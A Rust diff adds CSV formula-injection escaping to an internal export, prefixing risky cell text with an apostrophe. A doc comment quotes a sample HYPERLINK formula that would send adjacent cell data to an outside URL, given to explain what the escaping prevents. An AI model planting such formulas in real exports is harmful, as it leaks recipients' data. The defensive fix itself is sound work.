@@ -73,6 +73,17 @@ struct ActionRow<'a> {
     file: &'a str,
 }
 
+/// Free text as a spreadsheet cell. Text that begins with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is read by spreadsheets as a formula (a title written as
+/// `=HYPERLINK("https://…?"&B2, "Open")` would run in finance's copy of the export), so it
+/// is given a leading `'`, which spreadsheets take as "this is text".
+fn cell(text: String) -> String {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
+        _ => text,
+    }
+}
+
 /// `rows` as CSV with a header row.
 fn table<R: Serialize>(rows: &[R]) -> Result<String, Error> {
     let mut w = csv::Writer::from_writer(Vec::new());
@@ -104,7 +115,7 @@ pub fn internal(ws: &Workspace, today: NaiveDate, scopes: &[ClientScope]) -> Res
                 orders.push(OrderRow {
                     client,
                     number: text_of(&o.number),
-                    title: text_of(&o.title),
+                    title: cell(text_of(&o.title)),
                     kind: o.kind.as_ref().map_or("", |k| k.value.as_str()),
                     status: o.status().as_str(),
                     requested: o
@@ -161,8 +172,8 @@ pub fn internal(ws: &Workspace, today: NaiveDate, scopes: &[ClientScope]) -> Res
                 for a in items {
                     actions.push(ActionRow {
                         client,
-                        record: record.label(),
-                        task: text_of(&a.task),
+                        record: cell(record.label()),
+                        task: cell(text_of(&a.task)),
                         owner: a.owner.as_ref().map_or(String::new(), |o| o.value.clone()),
                         due: a
                             .due
